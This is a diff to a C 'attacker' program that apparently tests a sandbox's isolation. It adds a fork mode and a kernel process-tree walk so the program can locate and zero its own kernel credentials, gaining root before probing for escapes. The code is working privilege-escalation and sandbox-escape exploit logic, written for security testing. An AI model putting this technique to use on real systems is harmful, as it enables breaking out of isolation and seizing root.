@@ -25,8 +25,9 @@
 //   ATTACK_LAYOUT      heap mode: offsets printed by heap_layout
 //   ATTACK_HOSTFS_AT   heap mode: where to mount hostfs when the root is not
 //   ATTACK_POWEROFF    1: power off at the end (a booted init)
+//   ATTACK_FORK        1: attack from a fork()ed child, a host process of its own
 //
-// Output: "GADGET host_pid=N", then one line per probe: "denied NAME: ..."
+// Output: "GADGET host_pid=N host_ppid=M", then one line per probe: "denied NAME: ..."
 // or "ESCAPED NAME: ...". Exit 0 when every probe was refused, 1 when one
 // was not, 2 when no gadget was found (the test proves nothing then).
 #include "gadget.h"
@@ -51,6 +52,7 @@
 #include <sys/uio.h>
 #include <sys/un.h>
 #include <sys/utsname.h>
+#include <sys/wait.h>
 #include <time.h>
 
 #ifndef SYS_pidfd_open
@@ -377,15 +379,16 @@ static void probe_capabilities(void) {
 // ---- rewriting the kernel heap -------------------------------------------------
 
 struct Layout {
-  long k_cfg, cfg_root, cfg_net_none, k_init, p_creds, h_heap, h_root_fd, h_root_is_slash, h_root_len,
-      h_root;
+  long k_cfg, cfg_root, cfg_net_none, k_init, p_creds, p_pid, p_children, p_sibling, h_heap, h_root_fd,
+      h_root_is_slash, h_root_len, h_root;
 };
 
 static int parse_layout(struct Layout* l) {
   const char* s = env("ATTACK_LAYOUT");
   struct { const char* key; long* out; } keys[] = {
       {"k_cfg", &l->k_cfg},         {"cfg_root", &l->cfg_root},         {"cfg_net_none", &l->cfg_net_none},
-      {"k_init", &l->k_init},       {"p_creds", &l->p_creds},           {"h_heap", &l->h_heap},
+      {"k_init", &l->k_init},       {"p_creds", &l->p_creds},           {"p_pid", &l->p_pid},
+      {"p_children", &l->p_children}, {"p_sibling", &l->p_sibling},   {"h_heap", &l->h_heap},
       {"h_root_fd", &l->h_root_fd}, {"h_root_is_slash", &l->h_root_is_slash},
       {"h_root_len", &l->h_root_len}, {"h_root", &l->h_root},
   };
@@ -437,6 +440,17 @@ static uintptr_t find_hostfs(const struct Layout* l, const char* root) {
   return 0;
 }
 
+// This process's kernel record: from the first process down its children.
+static uintptr_t find_process(const struct Layout* l, uintptr_t p, int pid, int depth) {
+  if (!p || depth > 64) return 0;
+  if (*(const int*)(p + l->p_pid) == pid) return p;
+  for (uintptr_t c = *(const uint64_t*)(p + l->p_children); c; c = *(const uint64_t*)(c + l->p_sibling)) {
+    uintptr_t found = find_process(l, c, pid, depth + 1);
+    if (found) return found;
+  }
+  return 0;
+}
+
 static int rewrite_heap(void) {
   struct Layout l;
   if (!parse_layout(&l)) {
@@ -466,8 +480,12 @@ static int rewrite_heap(void) {
 
   // Be an ordinary user first, then make the kernel believe otherwise.
   if (setresuid(1000, 1000, 1000) != 0) printf("heap: setresuid: %s\n", strerror(errno));
-  uintptr_t init = *(const uint64_t*)(k + l.k_init);
-  uint32_t* creds = (uint32_t*)(init + l.p_creds);
+  uintptr_t me = find_process(&l, *(const uint64_t*)(k + l.k_init), (int)getpid(), 0);
+  if (!me) {
+    printf("heap: this process's record not found\n");
+    return 0;
+  }
+  uint32_t* creds = (uint32_t*)(me + l.p_creds);
   for (int i = 0; i < 8; i++) creds[i] = 0;  // uid euid suid fsuid gid egid sgid fsgid
   printf("heap: credentials rewritten, getuid() = %d geteuid() = %d\n", (int)getuid(), (int)geteuid());
   if (getuid() != 0) return 0;
@@ -531,6 +549,28 @@ int main(void) {
     fprintf(stderr, "attacker: run me through attack.py (ATTACK_* settings missing)\n");
     return 2;
   }
+  if (!strcmp(env("ATTACK_FORK"), "1")) {
+    // A forked guest is a host process of its own: attack from there.
+    fflush(stdout);
+    pid_t child = fork();
+    if (child < 0) {
+      printf("fork: %s\n", strerror(errno));
+      return 2;
+    }
+    if (child > 0) {
+      int st = 0;
+      waitpid(child, &st, 0);
+      int status = WIFEXITED(st) ? WEXITSTATUS(st) : 2;
+      if (!strcmp(env("ATTACK_POWEROFF"), "1")) {
+        printf("ATTACK_STATUS=%d\n", status);
+        fflush(stdout);
+        sync();
+        reboot(RB_POWER_OFF);
+      }
+      return status;
+    }
+    unsetenv("ATTACK_POWEROFF");
+  }
   long host_pid = 0;
   int candidates, tried;
   struct timespec t0, t1;
@@ -543,8 +583,8 @@ int main(void) {
     printf("no gadget found (%d heap pointers, %d sequences tried, %.1f ms)\n", candidates, tried, ms);
     goto out;
   }
-  printf("GADGET host_pid=%ld at %#lx (guest pid %d; %d heap pointers, %d sequences tried, %.1f ms)\n",
-         host_pid, (unsigned long)g, (int)getpid(), candidates, tried, ms);
+  printf("GADGET host_pid=%ld host_ppid=%ld at %#lx (guest pid %d; %d heap pointers, %d sequences tried, %.1f ms)\n",
+         host_pid, gadget_sys(SYS_getppid), (unsigned long)g, (int)getpid(), candidates, tried, ms);
   if (!strcmp(env("ATTACK_MODE"), "heap") && !rewrite_heap()) {
     printf("heap rewrite failed\n");
     goto out;
